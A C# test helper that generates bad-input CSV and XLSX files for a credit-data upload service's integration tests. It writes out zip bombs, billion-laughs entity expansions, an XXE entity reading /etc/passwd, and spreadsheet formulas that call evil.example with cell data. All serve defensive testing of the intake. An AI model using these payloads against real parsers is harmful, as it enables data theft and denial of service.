using System.IO.Compression;
using System.Security;
using System.Text;
using Huzhou.Credit.IntegrationTests.Collection;
using Huzhou.Credit.IntegrationTests.Infrastructure;

namespace Huzhou.Credit.IntegrationTests.BadInput;

/// <summary>
/// The corpus's generated files: bombs, huge and wide files and broken archives are made at test time into a temp
/// folder (never committed), each as small as still proves its point (a ratio bomb needs only to pass the 1 MB
/// ratio floor at well over 100:1, not to unpack to gigabytes).
/// </summary>
internal static class BadInputFiles
{
    private const string Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    private const string Relationships = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private const string SheetStart = $"""<worksheet xmlns="{Main}"><sheetData>""";
    private const string SheetEnd = "</sheetData></worksheet>";

    private static readonly string Folder = Directory.CreateTempSubdirectory("credit-badinput-files-").FullName;

    static BadInputFiles() => AppDomain.CurrentDomain.ProcessExit += (_, _) =>
    {
        try
        {
            Directory.Delete(Folder, recursive: true);
        }
        catch (IOException)
        {
        }
    };

    /// <summary>The file of a case: committed (<c>corpus/files/…</c>) or generated into the temp folder.</summary>
    public static string PathOf(BadInputCase c)
    {
        if (c.File is not null)
        {
            return Path.Combine(BadInputCase.Directory, "files", c.File);
        }

        var path = Path.Combine(Folder, c.Generate + ".bin");
        if (!File.Exists(path))
        {
            using var stream = new FileStream(path + ".tmp", FileMode.Create, FileAccess.Write);
            Write(c.Generate ?? throw new InvalidOperationException($"{c.Id}: neither file nor generate."), stream);
            stream.Close();
            File.Move(path + ".tmp", path);
        }

        return path;
    }

    /// <summary>Deletes a generated file once its case has run (the large ones are not kept between cases).</summary>
    public static void Forget(BadInputCase c)
    {
        if (c.Generate is not null)
        {
            File.Delete(Path.Combine(Folder, c.Generate + ".bin"));
        }
    }

    private static void Write(string generator, Stream output)
    {
        switch (generator)
        {
            // ---- CSV
            case "csv-1001-columns":
                Text(output, string.Join(',', Enumerable.Range(1, 1001).Select(i => "列" + i)) + "\r\n" + string.Join(',', Enumerable.Repeat("x", 1001)) + "\r\n");
                break;
            case "csv-2m-columns":
                Text(output, Header() + "\r\n");
                Repeat(output, "x,"u8.ToArray(), 2_000_000L * 2);
                Text(output, "\r\n");
                break;
            case "csv-40000-char-cell":
                Text(output, Header() + "\r\n" + "湖州某某有限公司,02,\"" + new string('违', 40_000) + "\"\r\n");
                break;
            case "csv-40000-char-header":
                Text(output, "行政相对人名称," + new string('列', 40_000) + "\r\nx,y\r\n");
                break;
            case "csv-10mb-line":
                Text(output, Header() + "\r\n");
                Repeat(output, "abcdefghij"u8.ToArray(), 10L * 1024 * 1024);
                break;
            case "csv-10mb-open-quote":
                Text(output, Header() + "\r\n湖州某某有限公司,\"");
                Repeat(output, "abc,def\r\n"u8.ToArray(), 10L * 1024 * 1024);
                break;
            case "csv-1mb-nul":
                Text(output, Header() + "\r\n");
                Repeat(output, new byte[1024], 1024L * 1024);
                break;
            case "csv-over-upload-limit":
                // 200.5 MB: past the 200 MB upload limit (Collection:MaxUploadBytes) but inside the request envelope, so the intake answers.
                Text(output, Header() + "\r\n");
                Repeat(output, Encoding.UTF8.GetBytes(string.Join(',', PenaltyRow()) + "\r\n"), (200L * 1024 * 1024) + (512 * 1024));
                break;
            case "csv-40mb-missing-columns":
                // Past the server's default 30 MB request limit, within the upload limit: reaches the intake and its preview.
                Text(output, "行政相对人名称,备注\r\n");
                Repeat(output, "湖州某某建材有限公司,未按规定公示年度报告的说明文字\r\n"u8.ToArray(), 40L * 1024 * 1024);
                break;
            case "csv-100k-empty-lines":
                Text(output, Header() + "\r\n");
                Repeat(output, ",,,,,,,,,,,,,,,,,,,,,,,,,,,,,,\r\n"u8.ToArray(), 100_000L * 32);
                break;
            case "random-bytes":
                var random = new Random(23);
                var bytes = new byte[256 * 1024];
                random.NextBytes(bytes);
                output.Write(bytes);
                break;
            case "png-bytes":
                output.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52]);
                output.Write(new byte[4096]);
                break;
            case "ole-compound":
                // The header of an OLE compound file: an old .xls, or an encrypted .xlsx (Excel wraps those in OLE).
                output.Write([0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
                output.Write(new byte[8192]);
                break;

            // ---- XLSX
            case "xlsx-valid":
                Workbook(output, Sheet([PenaltyFile.Headers, PenaltyRow()]));
                break;
            case "xlsx-repetitive-sheet":
                // 64 MB of one repeated row compresses about 60:1, under the 100:1 ratio limit: a big but plausible
                // sheet, streamed row by row (the preview checks the first 200 rows of a file past 5,000).
                Workbook(output, s =>
                {
                    Text(s, SheetStart + Row(1, PenaltyFile.Headers));
                    Repeat(s, Encoding.UTF8.GetBytes(Row(2, PenaltyRow())), 64L * 1024 * 1024);
                    Text(s, SheetEnd);
                });
                break;
            case "xlsx-bomb-cell":
                // One cell of 64 MB of the same letter: about 1,000:1, refused for its ratio from the zip directory.
                Workbook(output, s =>
                {
                    Text(s, SheetStart + Row(1, ["行政相对人名称"]) + """<row r="2"><c r="A2" t="inlineStr"><is><t>""");
                    Repeat(s, "a"u8.ToArray(), 64L * 1024 * 1024);
                    Text(s, "</t></is></c></row>" + SheetEnd);
                });
                break;
            case "xlsx-bomb-shared-strings":
                Workbook(output, Sheet([["行政相对人名称"]], shared: true), s => Repeat(s, "<si><t>湖州市某某建材有限公司未按规定公示年度报告</t></si>"u8.ToArray(), 64L * 1024 * 1024));
                break;
            case "xlsx-huge-shared-strings":
                // 1.6 million distinct texts (~75 MB as strings) compress only ~10:1: the shared-strings budget refuses them.
                Workbook(output, Sheet([["行政相对人名称"]], shared: true), s =>
                {
                    var text = new StringBuilder();
                    for (var i = 0; i < 1_600_000; i++)
                    {
                        text.Append("<si><t>").Append(i.ToString("D12", System.Globalization.CultureInfo.InvariantCulture)).Append("</t></si>");
                        if (text.Length > 60_000)
                        {
                            Text(s, text.ToString());
                            text.Clear();
                        }
                    }

                    Text(s, text.ToString());
                });
                break;
            case "xlsx-10001-parts":
                Workbook(output, Sheet([PenaltyFile.Headers, PenaltyRow()]), extra: zip =>
                {
                    for (var i = 0; i < 10_001; i++)
                    {
                        zip.CreateEntry($"xl/media/image{i}.png", CompressionLevel.NoCompression).Open().Dispose();
                    }
                });
                break;
            case "xlsx-missing-workbook":
                Zip(output, ("[Content_Types].xml", ContentTypes()), ("_rels/.rels", RootRels()), ("xl/worksheets/sheet1.xml", Sheet([PenaltyFile.Headers])));
                break;
            case "xlsx-missing-sheet":
                Zip(output, ("[Content_Types].xml", ContentTypes()), ("_rels/.rels", RootRels()), ("xl/workbook.xml", WorkbookXml()), ("xl/_rels/workbook.xml.rels", WorkbookRels(false)));
                break;
            case "xlsx-no-sheets":
                Zip(output, ("[Content_Types].xml", ContentTypes()), ("_rels/.rels", RootRels()),
                    ("xl/workbook.xml", $"""<workbook xmlns="{Main}" xmlns:r="{Relationships}"><sheets/></workbook>"""), ("xl/_rels/workbook.xml.rels", WorkbookRels(false)));
                break;
            case "xlsx-empty-zip":
                Zip(output);
                break;
            case "xlsx-corrupt-zip":
                output.Write("PK\u0003\u0004"u8);
                var garbage = new byte[64 * 1024];
                new Random(5).NextBytes(garbage);
                output.Write(garbage);
                break;
            case "xlsx-truncated":
                var whole = new MemoryStream();
                Workbook(whole, Sheet([PenaltyFile.Headers, PenaltyRow(), PenaltyRow()]));
                output.Write(whole.ToArray().AsSpan(0, (int)whole.Length / 2));
                break;
            case "xlsx-formulas-external":
                Workbook(output, SheetText(Row(1, PenaltyFile.Headers)
                    + """<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil.example/?"&amp;B2,"点击")</f><v>点击</v></c><c r="B2"><f>[1]Sheet1!A1</f><v>0</v></c><c r="C2" t="str"><f>WEBSERVICE("http://evil.example/")</f><v>x</v></c></row>"""),
                    extra: zip =>
                    {
                        Entry(zip, "xl/externalLinks/externalLink1.xml", $"""<externalLink xmlns="{Main}"><externalBook xmlns:r="{Relationships}" r:id="rId1"/></externalLink>""");
                        Entry(zip, "xl/externalLinks/_rels/externalLink1.xml.rels", """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>""");
                    });
                break;
            case "xlsx-1048576-empty-rows":
                Workbook(output, s =>
                {
                    Text(s, SheetStart + Row(1, PenaltyFile.Headers));
                    var rows = new StringBuilder();
                    for (var r = 2; r <= 1_048_576; r++)
                    {
                        rows.Append("<row r=\"").Append(r).Append("\"/>");
                        if (rows.Length > 60_000)
                        {
                            Text(s, rows.ToString());
                            rows.Clear();
                        }
                    }

                    Text(s, rows + SheetEnd);
                }, level: CompressionLevel.SmallestSize);
                break;
            case "xlsx-billion-laughs-sheet":
                Workbook(output, SheetText(Row(1, ["行政相对人名称"]) + """<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>""", BillionLaughs("worksheet")));
                break;
            case "xlsx-billion-laughs-shared-strings":
                Workbook(output, Sheet([["行政相对人名称"]], shared: true), s => Text(s, "<si><t>&lol9;</t></si>"), sharedPrologue: BillionLaughs("sst"));
                break;
            case "xlsx-billion-laughs-workbook":
                Workbook(output, Sheet([PenaltyFile.Headers]), workbook: BillionLaughs("workbook") + WorkbookXml().Replace("<sheets>", "<sheets>&lol9;", StringComparison.Ordinal));
                break;
            case "xlsx-xxe-sheet":
                Workbook(output, SheetText(Row(1, ["行政相对人名称"]) + """<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c></row>""",
                    """<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"""));
                break;
            case "xlsx-deep-nesting-sheet":
                Workbook(output, s =>
                {
                    Text(s, SheetStart + Row(1, ["行政相对人名称"]) + """<row r="2"><c r="A2" t="inlineStr"><is><t>""");
                    Repeat(s, "<x>"u8.ToArray(), 3L * 200_000);
                    Repeat(s, "</x>"u8.ToArray(), 4L * 200_000);
                    Text(s, "</t></is></c></row>" + SheetEnd);
                });
                break;
            case "xlsx-deep-nesting-workbook":
                Workbook(output, Sheet([PenaltyFile.Headers]), workbook: WorkbookXml().Replace("</workbook>",
                    new StringBuilder().Insert(0, "<x>", 100_000).Insert(300_000, "</x>", 100_000) + "</workbook>", StringComparison.Ordinal));
                break;
            case "xlsx-1001-columns":
                Workbook(output, Sheet([Enumerable.Range(1, 1001).Select(i => "列" + i).ToArray(), Enumerable.Repeat("x", 1001).ToArray()]));
                break;
            case "xlsx-20000-cells-row":
                Workbook(output, Sheet([PenaltyFile.Headers, Enumerable.Repeat("x", 20_000).ToArray()]));
                break;
            case "xlsx-40000-char-cell":
                Workbook(output, Sheet([PenaltyFile.Headers, [new string('违', 40_000), .. PenaltyRow()[1..]]]));
                break;
            case "xlsx-nul-escape":
                // OOXML writes a control character as _x0000_: the reader decodes it to a NUL.
                Workbook(output, Sheet([PenaltyFile.Headers, ["湖州_x0000_某某有限公司", .. PenaltyRow()[1..]]]));
                break;
            case "xlsx-control-chars":
                Workbook(output, SheetText(Row(1, PenaltyFile.Headers) + Row(2, ["湖州&#x1;某某&#x1F;有限公司", .. PenaltyRow()[1..]], escape: false)));
                break;
            case "xlsx-invalid-xml-chars":
                Workbook(output, SheetText(Row(1, PenaltyFile.Headers) + Row(2, ["湖州&#x0;某某有限公司", .. PenaltyRow()[1..]], escape: false)));
                break;
            case "xlsx-bidi":
                Workbook(output, Sheet([PenaltyFile.Headers, ["湖州\u202E司公限有\u202C某某", .. PenaltyRow()[1..]]]));
                break;
            case "xlsx-bad-cell-refs":
                Workbook(output, SheetText(Row(1, PenaltyFile.Headers)
                    + """<row r="99999999999"><c r="XFD99999999999" t="inlineStr"><is><t>x</t></is></c><c r="ZZZZZZZZ1" t="inlineStr"><is><t>y</t></is></c></row>"""));
                break;
            case "xlsx-huge-rels":
                Workbook(output, Sheet([PenaltyFile.Headers]), relsPadding: 40L * 1024 * 1024);
                break;
            case "xlsx-huge-styles":
                Workbook(output, Sheet([PenaltyFile.Headers, PenaltyRow()]), extra: zip =>
                {
                    using var s = zip.CreateEntry("xl/styles.xml", CompressionLevel.Optimal).Open();
                    Text(s, $"""<styleSheet xmlns="{Main}"><cellXfs>""");
                    Repeat(s, """<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>"""u8.ToArray(), 40L * 1024 * 1024);
                    Text(s, "</cellXfs></styleSheet>");
                }, styles: true);
                break;
            case "xlsx-macro-enabled":
                Workbook(output, Sheet([PenaltyFile.Headers, PenaltyRow()]), mainContentType: "application/vnd.ms-excel.sheet.macroEnabled.main+xml", extra: zip =>
                    zip.CreateEntry("xl/vbaProject.bin").Open().Dispose());
                break;
            case "xlsx-strict-namespace":
                Workbook(output, Sheet([PenaltyFile.Headers, PenaltyRow()]).Replace(Main, "http://purl.oclc.org/ooxml/spreadsheetml/main", StringComparison.Ordinal));
                break;
            case "xlsx-only-header":
                Workbook(output, Sheet([PenaltyFile.Headers]));
                break;
            case "xlsx-empty-sheet":
                Workbook(output, SheetText(""));
                break;
            case "xlsx-duplicate-headers":
                Workbook(output, Sheet([[.. PenaltyFile.Headers, PenaltyFile.Headers[0]], [.. PenaltyRow(), "x"]]));
                break;
            default:
                throw new InvalidOperationException($"No generator named {generator}.");
        }
    }

    // ---- building blocks

    private static string Header() => string.Join(',', PenaltyFile.Headers);

    private static string[] PenaltyRow()
    {
        var file = new PenaltyFile();
        file.AddEnterprise(Unique.Uscc(), "湖州" + file.Marker + "坏输入有限公司");
        return file.Rows[0];
    }

    private static void Text(Stream s, string text) => s.Write(Encoding.UTF8.GetBytes(text));

    /// <summary>Streams <paramref name="bytes"/> bytes of <paramref name="unit"/> repeated.</summary>
    private static void Repeat(Stream stream, byte[] unit, long bytes)
    {
        var block = new byte[Math.Max(1, 1024 * 1024 / unit.Length) * unit.Length];
        for (var i = 0; i < block.Length; i += unit.Length)
        {
            unit.CopyTo(block, i);
        }

        for (long written = 0; written < bytes; written += block.Length)
        {
            stream.Write(block, 0, (int)Math.Min(block.Length, bytes - written));
        }
    }

    private static string Column(int index)
    {
        var name = "";
        for (var n = index + 1; n > 0; n = (n - 1) / 26)
        {
            name = (char)('A' + ((n - 1) % 26)) + name;
        }

        return name;
    }

    private static string Row(int number, string[] cells, bool escape = true) =>
        $"<row r=\"{number}\">"
        + string.Concat(cells.Select((v, i) => $"<c r=\"{Column(i)}{number}\" t=\"inlineStr\"><is><t>{(escape ? SecurityElement.Escape(v) : v)}</t></is></c>"))
        + "</row>";

    private static string SheetText(string rows, string prologue = "") => prologue + SheetStart + rows + SheetEnd;

    private static string Sheet(string[][] rows, bool shared = false) => shared
        ? SheetText("""<row r="1"><c r="A1" t="s"><v>0</v></c></row>""")
        : SheetText(string.Concat(rows.Select((r, i) => Row(i + 1, r))));

    private static string BillionLaughs(string root) =>
        $"""<!DOCTYPE {root} [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">"""
        + string.Concat(Enumerable.Range(2, 8).Select(i => $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat($"&lol{i - 1};", 10))}\">"))
        + "]>";

    private static string ContentTypes(string main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", bool styles = false) =>
        """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">"""
        + """<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>"""
        + """<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>"""
        + $"""<Override PartName="/xl/workbook.xml" ContentType="{main}"/>"""
        + """<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>"""
        + """<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>"""
        + (styles ? """<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>""" : "")
        + "</Types>";

    private static string RootRels() =>
        """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"""
        + $"""<Relationship Id="rId1" Type="{Relationships}/officeDocument" Target="xl/workbook.xml"/></Relationships>""";

    private static string WorkbookXml() =>
        $"""<workbook xmlns="{Main}" xmlns:r="{Relationships}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>""";

    private static string WorkbookRels(bool sharedStrings, bool styles = false, string padding = "") =>
        """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"""
        + $"""<Relationship Id="rId1" Type="{Relationships}/worksheet" Target="worksheets/sheet1.xml"/>"""
        + (sharedStrings ? $"""<Relationship Id="rId2" Type="{Relationships}/sharedStrings" Target="sharedStrings.xml"/>""" : "")
        + (styles ? $"""<Relationship Id="rId3" Type="{Relationships}/styles" Target="styles.xml"/>""" : "")
        + padding + "</Relationships>";

    private static void Entry(ZipArchive zip, string name, string text)
    {
        using var s = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
        Text(s, text);
    }

    private static void Zip(Stream output, params (string Name, string Text)[] entries)
    {
        using var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true);
        foreach (var (name, text) in entries)
        {
            Entry(zip, name, text);
        }
    }

    private static void Workbook(Stream output, string sheet, Action<Stream>? sharedStrings = null, string sharedPrologue = "", string? workbook = null,
        Action<ZipArchive>? extra = null, long relsPadding = 0, bool styles = false, string? mainContentType = null) =>
        Workbook(output, s => Text(s, sheet), sharedStrings, sharedPrologue, workbook, extra, relsPadding, styles, mainContentType);

    private static void Workbook(Stream output, Action<Stream> sheet, Action<Stream>? sharedStrings = null, string sharedPrologue = "", string? workbook = null,
        Action<ZipArchive>? extra = null, long relsPadding = 0, bool styles = false, string? mainContentType = null, CompressionLevel level = CompressionLevel.Optimal)
    {
        using var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true);
        Entry(zip, "[Content_Types].xml", mainContentType is null ? ContentTypes(styles: styles) : ContentTypes(mainContentType, styles));
        Entry(zip, "_rels/.rels", RootRels());
        Entry(zip, "xl/workbook.xml", workbook ?? WorkbookXml());
        if (relsPadding > 0)
        {
            using var rels = zip.CreateEntry("xl/_rels/workbook.xml.rels", CompressionLevel.Optimal).Open();
            var text = WorkbookRels(sharedStrings is not null, styles);
            Text(rels, text[..^"</Relationships>".Length]);
            Repeat(rels, "<!-- padding -->"u8.ToArray(), relsPadding);
            Text(rels, "</Relationships>");
        }
        else
        {
            Entry(zip, "xl/_rels/workbook.xml.rels", WorkbookRels(sharedStrings is not null, styles));
        }

        using (var s = zip.CreateEntry("xl/worksheets/sheet1.xml", level).Open())
        {
            sheet(s);
        }

        if (sharedStrings is not null)
        {
            using var s = zip.CreateEntry("xl/sharedStrings.xml", CompressionLevel.Optimal).Open();
            Text(s, sharedPrologue + $"""<sst xmlns="{Main}">""");
            sharedStrings(s);
            Text(s, "</sst>");
        }

        extra?.Invoke(zip);
    }
}
